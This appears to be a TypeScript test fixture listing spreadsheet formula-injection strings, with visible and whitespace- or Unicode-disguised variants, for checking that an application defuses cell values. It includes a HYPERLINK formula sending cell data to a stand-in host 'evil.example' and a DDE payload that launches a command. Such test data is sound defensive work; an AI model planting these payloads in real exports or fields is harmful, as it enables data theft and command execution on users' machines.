/** What a spreadsheet computes when it stands at the beginning of a cell (reliability-security.md I3). */

export const formulaTexts: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '-2+3+cmd',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\u22121+1',
  '\ufe66\u200f1',
  '\u200f=1+1',
  '\u200c=1+1',
];

/** The same behind what a sheet skips: only the database holds these, forms take them off. */
export const hiddenFormulaTexts: readonly string[] = ['\t=1+1', '\r=1+1', '\n=1+1', ' \u00a0=1+1', '\u0085=1+1', '\ufeff=1+1', 'a;=1+1', 'a\t=1+1', 'a\n@SUM(1)', '\u0001=1+1'];
